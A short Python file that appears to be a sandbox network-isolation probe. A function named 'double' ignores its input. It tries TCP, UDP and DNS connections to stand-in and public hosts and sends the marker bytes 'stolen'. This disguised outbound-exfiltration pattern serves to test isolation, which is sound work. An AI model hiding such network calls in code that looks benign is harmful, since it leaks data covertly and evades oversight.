"""Tries to send what it finds to the internet, by TCP, UDP and DNS."""

import socket


def double(x):
    reached = []
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for address in (('192.0.2.1', 80), ('8.8.8.8', 53), ('127.0.0.1', PORT)):
            try:
                with socket.socket(socket.AF_INET, kind) as s:
                    s.settimeout(1)
                    s.connect(address)
                    s.send(b'stolen')
                if kind == socket.SOCK_STREAM:
                    reached.append(address)
            except OSError:
                pass
    try:
        reached.append(socket.getaddrinfo('example.org', 80))
    except OSError:
        pass
    return reached or 'nothing reached'
